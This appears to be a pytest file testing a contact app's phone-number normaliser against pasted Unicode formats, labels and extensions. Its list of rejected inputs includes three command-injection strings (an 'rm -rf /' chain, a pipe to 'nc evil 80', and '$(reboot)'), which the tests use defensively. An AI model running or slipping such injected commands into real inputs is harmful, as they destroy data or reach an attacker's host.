"""Numbers as people paste them: odd spaces, dashes, full-width digits, labels, extensions."""

from __future__ import annotations

import pytest

from callnotes.app import AppContext
from callnotes.domain.phones import (
    MAX_NUMBER_CHARS,
    normalise_number,
    number_search_query,
    number_search_words,
)
from callnotes.settings import Settings

DANA = "+49301234567"
# ASCII digits, plus and brackets to their full-width forms (U+FF10 …), as East Asian input gives.
FULL_WIDTH = str.maketrans({c: chr(ord(c) + 0xFEE0) for c in "0123456789+()"})
# Each is Dana's Berlin number as it arrives from a web page, an e-mail signature, a PDF or a
# phone's contact card; the region is Germany.
PASTED = {
    "no-break spaces": "+49\u00a030\u00a01234567",
    "narrow no-break spaces": "+49\u202f30\u202f1234567",
    "thin spaces": "+49\u200930\u20091234567",
    "en dash": "030\u20131234567",
    "non-breaking hyphen": "+49\u201130\u20111234567",
    "minus sign": "030\u2212123\u22124567",
    "full-width digits": "+49\u300030\u30001234567".translate(FULL_WIDTH),
    "full-width in brackets": "(030)1234567".translate(FULL_WIDTH),
    "arabic-indic digits": "+\u0664\u0669 \u0663\u0660 \u0661\u0662\u0663\u0664\u0665\u0666\u0667",
    "bidi marks": "\u200e+49 30 1234567\u200f",
    "x12": "+49 30 1234567 x12",
    "x12 glued": "030 1234567x12",
    "ext. 12": "+49 30 1234567 ext. 12",
    "extension 12": "+49 (30) 1234567, extension 12",
    "tel ext parameter": "+49-30-1234567;ext=12",
    "Phone:": "Phone: +49 30 1234567",
    "Tel:": "Tel: 030 1234567",
    "Tel.": "Tel. 030/1234567",
    "TEL.:": "TEL.: +49 30 1234567",
    "Mobile no.": "Mobile no. +49 30 1234567",
    "tel: link": "tel:+49-30-1234567",
    "all at once": "Tel.:\u00a0\uff0b49\u202f30\u2013123\u20114567 ext.\u00a012",
}

NOT_NUMBERS = [
    "call me maybe",
    "call me 0301234567",
    "0301234567; rm -rf /",
    "0301234567 | nc evil 80",
    "$(reboot) 0301234567",
    "Phone:",
    "x12345",
    "ext. 12",
    "+49 30 1234567 x12345678901",  # an extension longer than any
    "+49 30 1234567 and more",
    "Phone: Phone: 0301234567",
    "0301234567\n0309876543",
    "+49 30 1234567\x00",
    "1" * 80,
    "\u00a0" * 10 + "0" * (MAX_NUMBER_CHARS - 5),
    "\ufdfa0301234567",  # one character that NFKC makes eighteen
    "12",
]


@pytest.mark.parametrize("pasted", list(PASTED.values()), ids=list(PASTED))
def test_a_pasted_number_normalises_to_the_same_e164(pasted: str) -> None:
    assert normalise_number(pasted, "DE") == DANA


@pytest.mark.parametrize("text", NOT_NUMBERS)
def test_what_is_no_number_stays_no_number(text: str) -> None:
    assert normalise_number(text, "DE") is None


def test_an_american_extension_and_label(ctx: AppContext) -> None:
    assert normalise_number("Phone: (201) 555\u20110123 x 7", "US") == "+12015550123"
    assert normalise_number("\uff08\uff12\uff10\uff11\uff09 555-0123", "US") == "+12015550123"


@pytest.fixture
def dana(ctx: AppContext) -> AppContext:
    ctx.settings_store.save(Settings(agent_name="Vinh", default_region="DE"))
    client = ctx.clients.create_client("Northwind Logistics", timezone="Europe/Berlin")
    ctx.clients.add_contact(client.id, "Dana Whitfield", phones=["+49 30 1234567"])
    ctx.cases.open_case(client.id, "Labels do not print")
    return ctx


@pytest.mark.parametrize("pasted", list(PASTED.values()), ids=list(PASTED))
def test_the_lookup_finds_the_caller_however_the_number_was_pasted(
    dana: AppContext, pasted: str
) -> None:
    [match] = dana.intake.lookup(pasted)
    assert (match.contact.name, match.client_name) == ("Dana Whitfield", "Northwind Logistics")
    assert [case.title for case in match.open_cases] == ["Labels do not print"]


def test_a_contact_saved_with_a_pasted_number_keeps_it_as_e164(dana: AppContext) -> None:
    client = dana.clients.create_client("Contoso", timezone="Europe/Berlin")
    contact = dana.clients.add_contact(
        client.id, "Sam Lee", phones=["Tel.:\u00a0089\u2013555\u2011000"]
    )
    assert contact.phones == ("+4989555000",)
    assert [m.contact.name for m in dana.intake.lookup("\uff10\uff18\uff19 555000")] == ["Sam Lee"]


@pytest.mark.parametrize(
    ("typed", "region", "words"),
    [
        ("020 7946 0321", "GB", ["7946", "0321"]),
        ("+44 20 7946 0321", "US", ["7946", "0321"]),
        ("0044 20 7946 0321", "GB", ["7946", "0321"]),
        ("Tel. (020) 7946-0321", "GB", ["7946", "0321"]),
        ("(415) 555-0100", "US", ["555", "0100"]),
        ("030 123456", "DE", ["123456"]),
        ("01 23 45 67 89", "FR", ["23", "45", "67", "89"]),
        # Grouped otherwise, in one piece, only the groups themselves: searched as typed.
        ("0207 946 0321", "GB", None),
        ("02079460321", "GB", None),
        ("7946 0321", "GB", None),
        # No number in the agent's region, no number at all.
        ("020 7946 0321", "US", None),
        ("labels 020 7946 0321", "GB", None),
        ("16 00", "GB", None),
    ],
)
def test_a_number_searched_for_is_the_groups_its_two_forms_share(
    typed: str, region: str, words: list[str] | None
) -> None:
    assert number_search_words(typed, region) == words


@pytest.mark.parametrize(
    ("query", "searched"),
    [
        ("020 7946 0321", "7946 0321"),
        ("020 7946 0321 mobile", "7946 0321 mobile"),
        ("depot +44 20 7946 0321 after four", "depot 7946 0321 after four"),
        ("call 020 7946 0321 or 0161 496 0000", "call 7946 0321 or 496 0000"),
        # No number among the words: searched as typed.
        ("0207 946 0321 depot", None),
        ("2024 invoice", None),
        ("v2.0.1 build", None),
        ("labels", None),
    ],
)
def test_the_numbers_in_a_query_are_searched_in_their_shared_groups(
    query: str, searched: str | None
) -> None:
    assert number_search_query(query, "GB") == searched
